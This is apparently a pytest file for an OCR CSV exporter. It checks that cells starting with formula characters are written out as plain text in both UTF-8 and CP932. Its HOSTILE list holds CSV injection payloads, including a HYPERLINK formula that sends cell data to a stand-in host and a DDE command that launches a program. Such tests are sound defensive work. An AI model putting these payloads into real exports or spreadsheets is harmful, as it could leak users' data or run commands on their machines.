"""Finding 10: no cell of an export is a live formula in Excel or LibreOffice, in either
encoding, whatever a corrected, handwritten or read field holds."""

from __future__ import annotations

import csv
import io

import pytest

from handlers.ocr.export import to_csv

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1, "詳細")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["山田 太郎", "06-1234-5678", "2024-05-06", "a=b", "", "'quoted"]


def exported(values: list[str], encoding: str, header: str = "氏名") -> list[list[str]]:
    rows = [{"document_id": f"d{n}", "name": value} for n, value in enumerate(values)]
    data, _ = to_csv(["document_id", "name"], ["文書ID", header], rows, encoding)
    text = data.decode("utf-8-sig" if encoding == "utf-8-sig" else "cp932")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_formula_starts_are_written_as_text(encoding: str) -> None:
    table = exported(HOSTILE + HARMLESS, encoding)
    cells = [row[1] for row in table[1:]]
    assert len(cells) == len(HOSTILE + HARMLESS)  # every row came back
    for written, value in zip(cells, HOSTILE, strict=False):
        assert written == "'" + value
    assert cells[len(HOSTILE) :] == HARMLESS


def test_a_header_is_never_a_formula() -> None:
    assert exported(["x"], "utf-8-sig", header="=1+1")[0][1] == "'=1+1"
